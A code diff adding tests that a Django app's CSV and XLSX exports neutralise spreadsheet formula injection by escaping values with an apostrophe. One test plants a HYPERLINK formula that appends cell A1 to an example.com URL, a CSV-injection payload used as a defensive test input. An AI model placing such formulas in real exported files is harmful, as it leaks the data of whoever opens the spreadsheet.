@@ -11,6 +11,7 @@ from html.parser import HTMLParser
 
 import openpyxl
 import pytest
+import tablib
 from django.conf import settings
 from django.contrib.admin.models import LogEntry
 from django.contrib.auth.models import Group, Permission, User
@@ -18,7 +19,10 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
 from django.forms.models import model_to_dict
 from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
 
+from networks.formulas import FORMULA_STARTS, escape_formula, unescape_formula
 from networks.models import Membership, Network, Theme
 from networks.resources import CSV, FORMATS, XLSX
 from networks.roles import EDITORS
@@ -175,8 +179,17 @@ def networks():
         scope=Network.Scope.NATIONAL,
     )
     MembershipFactory(network=draft, joined_year=1995, left_year=2000)
-    # A text that a spreadsheet would take for a formula.
-    NetworkFactory(slug="senza-adesione", name_it="Senza adesione", key_facts_it="=1+1")
+    # Texts that a spreadsheet would take for a formula, and texts that look escaped already.
+    NetworkFactory(
+        slug="senza-adesione",
+        name_it="Senza adesione",
+        acronym="+39",
+        promoter="@Comune",
+        summary_en="-20% emissions",
+        key_facts_it="=1+1",
+        key_facts_en="'=1+1, as a spreadsheet shows a text",
+        description_en="''Two apostrophes",
+    )
     return Network.objects.order_by("slug")
 
 
@@ -258,6 +271,57 @@ class TestExport:
         assert formula.value == "=1+1"
         assert formula.data_type == "s"
 
+    def test_csv_puts_an_apostrophe_before_a_text_a_spreadsheet_would_run(
+        self, client, editor, networks
+    ):
+        rows = {row["slug"]: row for row in read(export(client, CSV), CSV)}
+        texts = rows["senza-adesione"]
+        assert texts["key_facts_it"] == "'=1+1"
+        assert texts["acronym"] == "'+39"
+        assert texts["promoter"] == "'@Comune"
+        assert texts["summary_en"] == "'-20% emissions"
+        # One more where the text begins with an apostrophe, so that the import takes one off.
+        assert texts["key_facts_en"] == "''=1+1, as a spreadsheet shows a text"
+        assert texts["description_en"] == "'''Two apostrophes"
+        assert texts["name_it"] == "Senza adesione"
+        climate = rows["alleanza-per-il-clima"]
+        assert climate["founded_year"] == "1990"
+        assert climate["membership_joined_year"] == "2002"
+        assert climate["membership_annual_fee"] == "1250.50"
+        assert climate["key_facts_date"] == "2024-03-31"
+
+    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+    def test_csv_neutralises_every_start_of_a_formula(self, client, editor, start):
+        NetworkFactory(name_it=f'{start}HYPERLINK("https://example.com/?"&A1)')
+        [row] = read(export(client, CSV), CSV)
+        assert row["name_it"] == f'\'{start}HYPERLINK("https://example.com/?"&A1)'
+
+    def test_csv_keeps_negative_numbers_numbers_and_such_texts_texts(self):
+        dataset = tablib.Dataset([Decimal("-12.50"), -3, "-3", None], headers=["a", "b", "c", "d"])
+        content = CSV().export_data(dataset).removeprefix("\ufeff")
+        assert list(csv.reader(io.StringIO(content))) == [
+            ["a", "b", "c", "d"],
+            ["-12.50", "-3", "'-3", ""],
+        ]
+
+    def test_xlsx_keeps_such_texts_as_they_are_in_cells_that_stay_texts(
+        self, client, editor, networks
+    ):
+        sheet = openpyxl.load_workbook(io.BytesIO(export(client, XLSX))).active
+        headers = [cell.value for cell in sheet[1]]
+        texts = dict(zip(headers, sheet[4], strict=True))
+        for column, text in [
+            ("key_facts_it", "=1+1"),
+            ("acronym", "+39"),
+            ("promoter", "@Comune"),
+            ("summary_en", "-20% emissions"),
+        ]:
+            assert texts[column].value == text
+            assert texts[column].data_type == "s"
+            assert texts[column].quotePrefix  # as if typed after an apostrophe: edited, still text
+        assert texts["key_facts_en"].value == "'=1+1, as a spreadsheet shows a text"
+        assert not texts["name_it"].quotePrefix
+
     def test_export_does_not_grow_in_queries_with_the_networks(
         self, client, editor, networks, django_assert_max_num_queries
     ):
@@ -273,6 +337,13 @@ class TestExport:
 
 
 # Round trips
+
+
+@given(st.text())
+def test_the_import_takes_off_exactly_the_apostrophe_the_export_puts_before_a_text(text):
+    written = escape_formula(text)
+    assert not written.startswith(FORMULA_STARTS)
+    assert unescape_formula(written) == text
 
 
 @pytest.mark.parametrize("file_format", FORMATS, ids=["csv", "xlsx"])
